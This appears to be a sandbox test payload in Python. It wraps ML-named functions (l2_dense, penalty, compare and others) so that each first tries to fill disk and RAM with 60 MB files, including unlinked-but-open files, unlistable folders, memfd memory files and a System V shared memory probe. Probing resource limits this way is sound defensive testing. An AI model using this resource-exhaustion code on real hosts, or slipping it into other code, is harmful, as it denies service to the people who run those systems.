# Payload: fill the disk and RAM with big files, 60 MB each (under the per-file limit), up
# to 900 MB per place: in the scratch folder (l2_dense); in a folder of it that only its
# owner may write and nobody may list, mode 300 (l1_dense); in /tmp and in /dev/shm
# (regularized_loss); in the scratch folder again, each file unlinked as soon as it is open
# and kept open, so that no listing of the folder shows it (compare); and in memory files
# (memfd_create) kept open, or a System V shared memory segment (penalty). A function that
# wrote everything answers like alice; one whose writes were refused raises. Either way no
# place may take it all: the writes are refused or the worker is stopped, and those five
# functions lose their checks. Nothing may be left on the host afterwards.
import os as _os

_alice = {"l2_dense": l2_dense, "l1_dense": l1_dense, "penalty": penalty}
_alice |= {"regularized_loss": regularized_loss, "compare": compare}
_CHUNK = b"\1" * (1 << 20)
_FILE_MB = 60
_FILES = 15
_kept = []  # open files: what they hold stays allocated while the worker lives


def _write(handle):
    for _ in range(_FILE_MB):
        _os.write(handle, _CHUNK)


def _fill(folder, unlink=False, mode=0o700):
    target = _os.path.join(folder, "@@MARKER@@-bytes")
    made = 0
    try:
        _os.makedirs(folder, exist_ok=True)
        if not _os.path.isdir(target):
            _os.mkdir(target, mode)  # made with its mode: no chmod needed
        for number in range(_FILES):
            name = _os.path.join(target, str(number))
            handle = _os.open(name, _os.O_CREAT | _os.O_WRONLY | _os.O_TRUNC, 0o600)
            if unlink:
                _os.unlink(name)
                _kept.append(handle)
            try:
                _write(handle)
            finally:
                if not unlink:
                    _os.close(handle)
            made += 1
    except OSError as exc:
        raise RuntimeError(
            f"HOSTILE-BLOCKED {_FILE_MB} MB files in {folder} after {made}: "
            f"{type(exc).__name__}"
        ) from None


def l2_dense(units, l2=0.01, activation="relu"):
    _fill(_os.getcwd())
    return _alice["l2_dense"](units, l2=l2, activation=activation)


def l1_dense(units, l1=0.005, activation="relu"):
    _fill(_os.path.join(_os.getcwd(), "unlisted"), mode=0o300)
    return _alice["l1_dense"](units, l1=l1, activation=activation)


def regularized_loss(model, x, y):
    outcomes = []
    for folder in ("/tmp", "/dev/shm"):
        try:
            _fill(folder)
        except RuntimeError as exc:
            outcomes.append(str(exc))
    if outcomes:
        raise RuntimeError("; ".join(outcomes))
    return _alice["regularized_loss"](model, x, y)


def compare(x_train, y_train, x_val, y_val, l2=0.01, epochs=50, seed=0):
    _fill(_os.getcwd(), unlink=True)
    return _alice["compare"](x_train, y_train, x_val, y_val, l2=l2, epochs=epochs, seed=seed)


def _system_v_segment():
    """Whether a System V shared memory segment can be made (one that is detached and left
    behind holds RAM past the worker's death): made, it is removed at once."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0, 1 << 20, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if segment < 0:
        return f"shmget refused ({_os.strerror(ctypes.get_errno())})"
    libc.shmctl(segment, 0, None)  # IPC_RMID
    return "SHM-CREATED"


def penalty(model):
    shared = _system_v_segment()
    if shared == "SHM-CREATED":
        return _alice["penalty"](model)
    made = 0
    try:
        for number in range(_FILES):
            handle = _os.memfd_create(f"@@MARKER@@-{number}")
            _kept.append(handle)
            _write(handle)
            made += 1
    except OSError as exc:
        raise RuntimeError(
            f"HOSTILE-BLOCKED memory files after {made}: {type(exc).__name__}; {shared}"
        ) from None
    return _alice["penalty"](model)
